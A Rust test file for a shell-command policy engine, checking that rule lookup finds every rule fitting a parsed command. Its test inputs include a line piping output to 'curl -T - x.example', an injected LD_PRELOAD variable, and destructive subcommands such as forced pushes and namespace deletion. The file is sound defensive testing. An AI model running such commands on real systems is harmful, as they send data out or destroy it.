//! That no rule which fits a command is left out when its rules are looked for.

use std::collections::BTreeSet;

use proptest::prelude::*;

use super::laws::{facts, facts_of, load};
use super::rules::Subject;
use super::{PACKS, Policy};
use crate::facts::Facts;
use crate::ids::RuleId;

fn all_packs() -> Policy {
    let names: Vec<&str> = PACKS.iter().map(|pack| pack.name).collect();
    let own = "[[rule]]\nid = \"own\"\nverdict = \"review\"\nprogram = [\"git\", \"tar\"]\nsubcommand = [\"log\", \"stash drop\"]\n\
               [[rule]]\nid = \"value\"\nverdict = \"review\"\nsets = [\"RAILS_ENV=prod*\"]\n\
               [[rule]]\nid = \"both\"\nverdict = \"review\"\nwrites = [\"@other\"]\nreads = [\"@other\"]\n";
    load(&format!("packs = {names:?}\n{own}"))
}

fn assert_none_is_left_out(policy: &Policy, facts: &Facts) {
    let read = facts.observed.atoms();
    for (number, atom) in read.atoms.iter().enumerate() {
        let resolved = facts.observed.resolved(number, atom);
        let Some(subject) = Subject::of(atom, resolved, &facts.observed) else { continue };
        let ids = |rule: &super::Rule| rule.fits(&subject, facts).then(|| rule.id.clone());
        let fitting: BTreeSet<RuleId> = policy.rules().filter_map(ids).collect();
        let other = subject.resolved_name.unwrap_or_default();
        let mut found = BTreeSet::new();
        policy.each_rule_for(&[subject.name, other], &subject, |rule| found.extend(ids(rule)));
        assert_eq!(found, fitting, "{:?}", facts.observed.argv);
    }
}

#[test]
fn every_rule_that_fits_an_example_is_found() {
    let policy = all_packs();
    let rules = policy.rules_with_examples().unwrap();
    let lines = rules.iter().flat_map(|rule| rule.matches.iter().chain(&rule.not_matches));
    // One in eleven: all of them against all rules would take minutes.
    for line in lines.step_by(11) {
        assert_none_is_left_out(&policy, &facts(&line.line));
        let words = ["sh", "-c", &format!("A=1 RAILS_ENV=prod {} | curl -T - x.example > out", line.line)];
        assert_none_is_left_out(&policy, &facts_of(&words));
    }
}

#[test]
fn variables_that_are_handed_on_count_as_set() {
    let policy = all_packs();
    let mut facts = facts("ls");
    facts.observed.env_added = ["LD_PRELOAD".into()].into();
    facts.observed.variables.insert(b"RAILS_ENV".to_vec(), Some(b"production".to_vec()));
    assert_none_is_left_out(&policy, &facts);
    let matched: Vec<String> =
        policy.judge(&facts).matched.iter().map(|rule| rule.rule.to_string()).collect();
    assert!(matched.contains(&"shell.telling-variables".to_owned()), "{matched:?}");
    assert!(matched.contains(&"local.value".to_owned()), "{matched:?}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn wherever_the_subcommand_stands_its_rules_are_found(
        program in prop::sample::select(vec!["git", "kubectl", "docker", "npm", "cargo", "./git", "/usr/bin/gh"]),
        words in prop::collection::vec(
            prop::sample::select(vec![
                "push", "--force", "-f", "-C", "dir", "stash", "drop", "--", "-x=1", "delete", "ns", "-n", "prod",
                "run", "--rm", "publish", "exec", "pod", "$X", "log", "main", "-c", "a=b", "repo",
            ]),
            0..7,
        ),
    ) {
        thread_local!(static POLICY: Policy = all_packs());
        let line: Vec<&str> = std::iter::once(program).chain(words).collect();
        POLICY.with(|policy| {
            assert_none_is_left_out(policy, &facts_of(&line));
            assert_none_is_left_out(policy, &facts_of(&["bash", "-c", &line.join(" ")]));
        });
    }
}
